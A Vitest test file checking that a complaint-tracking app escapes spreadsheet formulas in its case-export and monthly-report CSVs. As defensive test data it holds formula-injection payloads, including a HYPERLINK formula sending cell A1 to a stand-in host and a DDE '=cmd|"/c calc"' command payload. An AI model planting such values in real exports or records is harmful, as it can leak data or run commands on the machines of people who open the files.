import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { escapeCsvFormula } from '../lib/csv-cell.ts';
import { exportCases, formatExportCsv } from '../reports/export-cases.ts';
import { computeMonthlyReport } from '../reports/monthly-report.ts';
import { formatReportCsv } from '../reports/report-format.ts';
import { createTestApp, type TestApp } from './helpers/test-app.ts';
import { insertCase, wib } from './helpers/case-fixtures.ts';

// Issue 12 #7: a cell a spreadsheet would run as a formula is written as text (prefixed with ').
describe('escapeCsvFormula', () => {
  it.each([
    ['=HYPERLINK("http://contoh.test","klik")', `'=HYPERLINK("http://contoh.test","klik")`],
    ['+62 812 3456 7890', `'+62 812 3456 7890`],
    ['-1+1', `'-1+1`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['   =1+1', `'   =1+1`],
    ['＝1+1', `'＝1+1`],
  ])('%j is escaped', (input, expected) => expect(escapeCsvFormula(input)).toBe(expected));

  it.each(['Jalan rusak = bahaya', 'Lampu mati', '2026-11-02T01:00:00.000Z', "'sudah dikutip", ''])('%j stays as it is', (input) => {
    expect(escapeCsvFormula(input)).toBe(input);
  });
});

let app: TestApp;
beforeAll(async () => {
  app = await createTestApp();
});
afterAll(async () => {
  await app?.cleanup();
});

describe('every CSV the project writes escapes formulas', () => {
  it('the case export (description, location, reporter name)', async () => {
    const { trackingId } = await insertCase(app.db, {
      description: '=HYPERLINK("http://contoh.test/?d="&A1,"Lihat foto")',
      locationText: '@SUM(1+1)',
      reporterName: '+Budi',
      submittedAt: wib('2026-09-10T08:00'),
    });
    const rows = await exportCases(app.db, app.calendar, { from: '2026-09-01', to: '2026-09-30' });
    const records = parse(formatExportCsv(rows), { columns: true }) as Array<Record<string, string>>;
    const row = records.find((r) => r.trackingId === trackingId)!;
    expect(row.description).toBe(`'=HYPERLINK("http://contoh.test/?d="&A1,"Lihat foto")`);
    expect(row.locationText).toBe("'@SUM(1+1)");
    expect(row.reporterName).toBe("'+Budi");
    // Numbers stay numbers: a negative latitude is data, not a formula.
    expect(row.latitude).toBe('-7.95');
  });

  it('the monthly report CSV (group names come from the city profile and the database)', async () => {
    await insertCase(app.db, { opdCode: 'DLH', categoryCode: null, submittedAt: wib('2026-08-10T08:00') });
    await app.db.opd.update({ where: { code: 'DLH' }, data: { name: '=cmd|"/c calc"!A1' } });
    const report = await computeMonthlyReport(app.db, app.calendar, { month: '2026-08', now: wib('2026-09-01T08:00') });
    const records = parse(formatReportCsv(report), { columns: true }) as Array<Record<string, string>>;
    const opd = records.find((r) => r.group === 'opd' && r.key === 'DLH')!;
    expect(opd.name).toBe(`'=cmd|"/c calc"!A1`);
    expect(opd.received).toBe('1');
  });
});
